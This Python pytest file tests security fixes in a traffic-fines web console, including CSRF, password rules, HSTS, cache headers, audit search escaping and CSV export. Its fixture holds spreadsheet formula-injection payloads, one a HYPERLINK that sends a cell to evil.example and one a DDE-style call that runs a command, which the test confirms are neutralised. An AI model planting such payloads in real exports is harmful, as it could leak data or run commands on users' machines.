"""The console's low-severity findings (issue 11): CSV formula cells, the password policy and
a change-password page, an opt-in Secure cookie with HSTS, a CSRF token on the login form,
``Cache-Control: no-store``, wildcards in the audit search, audited evidence views."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from fines.auth import create_user
from fines.console import create_app
from fines.db import make_engine, session_factory
from fines.errors import AccountError
from fines.models import ConsoleAudit
from fines.service import FinesPolicy, packaged_rules, record_decision, settle_due
from lez.app.settings import Settings
from tests.integration.test_console import PASSWORDS, login, seed_users
from tests.integration.test_fines_db import decision

pytestmark = pytest.mark.integration
KEY = b"test-plate-hash-key"
FORMULAS = {
    "holder_name": '=HYPERLINK("http://evil.example/?"&A1,"pay here")',
    "holder_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "make": "+1+1",
    "model": "-2+3",
}


@pytest.fixture
def sessions(db_url: str) -> Iterator[sessionmaker[Session]]:
    engine = make_engine(db_url)
    factory = session_factory(engine)
    policy = FinesPolicy(rules=packaged_rules(), plate_hash_key=KEY)
    d = decision("1-ABC-123", "2023-05-02T08:10:00+02:00")
    assert d.vehicle is not None
    d = d.model_copy(update={"vehicle": d.vehicle.model_copy(update=FORMULAS)})
    with factory.begin() as s:
        record_decision(s, d, policy)
    settle_due(
        factory, now=datetime(2030, 1, 1, tzinfo=UTC), policy=policy, day_pass=lambda *a: False
    )
    seed_users(factory)
    yield factory
    engine.dispose()


@pytest.fixture
def client(sessions: sessionmaker[Session]) -> Iterator[TestClient]:
    app = create_app(
        sessions, secret_key="k", policy=FinesPolicy(rules=packaged_rules(), plate_hash_key=KEY)
    )
    with TestClient(app) as c:
        yield c


def csrf_of(html: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', html)
    assert m, "no CSRF token in the form"
    return m.group(1)


def test_csv_export_neutralises_formula_cells(client: TestClient) -> None:
    login(client, "sam")
    [row] = list(csv.DictReader(io.StringIO(client.get("/api/notices/export.csv").text)))
    for field in ("holder_name", "holder_address"):
        assert row[field] == "'" + FORMULAS[field]
    assert row["vehicle_make"] == "'+1+1" and row["vehicle_model"] == "'-2+3"
    assert row["plate"] == "1-ABC-123"  # ordinary cells are untouched
    data = client.get("/api/notices/export.json").json()["data"]
    assert data[0]["vehicle"]["holder_name"] == FORMULAS["holder_name"]  # JSON: no spreadsheet


@pytest.mark.parametrize(
    ("username", "password", "why"),
    [
        ("bob", "eleven-char", "shorter than 12"),
        ("bob", " " * 16, "blank"),
        ("bartholomew1", "Bartholomew1", "is the user name"),
    ],
)
def test_weak_passwords_are_refused(
    sessions: sessionmaker[Session], username: str, password: str, why: str
) -> None:
    with sessions() as s, pytest.raises(AccountError, match=why):
        create_user(s, username, password, "operator")


def test_the_change_password_page(client: TestClient) -> None:
    login(client, "ada")
    page = client.get("/account/password")
    assert page.status_code == 200 and 'id="change-password"' in page.text
    form = {
        "csrf": csrf_of(page.text),
        "current_password": PASSWORDS["ada"],
        "new_password": "ada",
        "new_password_again": "ada",
    }
    refused = client.post("/account/password", data=form)
    assert "shorter than 12" in refused.text
    new = "correct-horse-battery"
    form |= {"csrf": csrf_of(refused.text), "new_password": new, "new_password_again": new}
    done = client.post("/account/password", data=form)
    assert "Password changed" in done.text
    client.post("/api/logout")
    assert client.post("/api/login", json={"username": "ada", "password": new}).status_code == 200


def test_https_only_marks_the_cookie_secure_and_sends_hsts(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    app = create_app(sessions, secret_key="k", https_only=True)
    with TestClient(app, base_url="https://console.example") as c:
        r = c.post("/api/login", json={"username": "olga", "password": PASSWORDS["olga"]})
        assert r.status_code == 200
        assert "secure" in r.headers["set-cookie"].lower()
        assert r.headers["strict-transport-security"].startswith("max-age=")
    with TestClient(create_app(sessions, secret_key="k")) as plain:  # the default: opt-in
        r = plain.post("/api/login", json={"username": "olga", "password": PASSWORDS["olga"]})
        assert "secure" not in r.headers["set-cookie"].lower()
        assert "strict-transport-security" not in r.headers
    monkeypatch.setenv("LEZ_CONSOLE_HTTPS_ONLY", "1")  # what `lez serve console` passes on
    assert Settings().console_https_only is True


def test_the_login_form_needs_its_csrf_token(client: TestClient) -> None:
    form = {"username": "olga", "password": PASSWORDS["olga"], "next": "/"}
    forged = client.post("/login", data={**form, "csrf": "forged"}, follow_redirects=False)
    assert forged.status_code == 403
    assert client.post("/login", data=form, follow_redirects=False).status_code in (403, 422)
    assert client.get("/api/me").status_code == 401
    token = csrf_of(client.get("/login").text)
    ok = client.post("/login", data={**form, "csrf": token}, follow_redirects=False)
    assert ok.status_code == 303 and client.get("/api/me").status_code == 200


def test_authenticated_answers_are_not_cached(client: TestClient) -> None:
    login(client, "olga")
    for path in ("/api/me", "/api/notices", "/", "/notices", "/review"):
        r = client.get(path)
        assert r.status_code == 200, path
        assert "no-store" in r.headers["cache-control"], path


def test_wildcards_in_the_audit_search_are_characters(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    from fines.registry_audit import SqlAuditSink
    from lez.core.registry import AuditEntry

    sink = SqlAuditSink(sessions, KEY)
    at = datetime(2030, 1, 1, tzinfo=UTC)
    for plate in ("1-ABC-123", "2-DEF-456"):
        entry = AuditEntry(
            authority="BXL",
            actor="olga",
            plate=plate,
            country="BE",
            purpose="lez_enforcement",
            at=at,
            result="found",
            detail="",
        )
        sink.record(entry)
    login(client, "ada")
    for query in ("%", "_", "1-%", "%-___-%"):
        body = client.get("/api/audit/registry", params={"plate": query}).json()
        assert body["count"] == 0, query
    assert client.get("/api/audit/registry", params={"plate": "1-abc-123"}).json()["count"] == 1


def test_viewing_an_evidence_image_is_audited(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    login(client, "olga")
    [notice] = client.get("/api/notices").json()["data"]
    [first, *_] = client.get(f"/api/notices/{notice['notice_id']}").json()["evidence"]
    assert client.get(first).status_code == 200
    assert client.get(f"/api/notices/{notice['notice_id']}/pdf").status_code == 200
    with sessions() as s:
        rows = s.execute(
            select(ConsoleAudit.actor, ConsoleAudit.action, ConsoleAudit.target).where(
                ConsoleAudit.action.in_(["evidence.view", "notice.document"])
            )
        ).all()
    passage, idx = first.split("/")[-2:]
    assert ("olga", "evidence.view", f"{passage}/{idx}") in rows
    assert ("olga", "notice.document", notice["notice_id"]) in rows
